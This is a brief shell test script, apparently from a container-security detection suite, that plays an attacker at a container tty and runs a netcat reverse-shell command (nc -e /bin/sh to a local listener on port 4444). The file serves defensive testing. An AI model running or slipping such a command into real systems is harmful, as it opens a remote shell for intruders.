#!/bin/sh
# malicious: an attacker at the runtime tty hands a shell to a listener with nc -e
# container
. "$(dirname "$0")/../../lib.sh"
ctr_tty <<'CMDS'
nc -e /bin/sh 127.0.0.1 4444
exit
CMDS
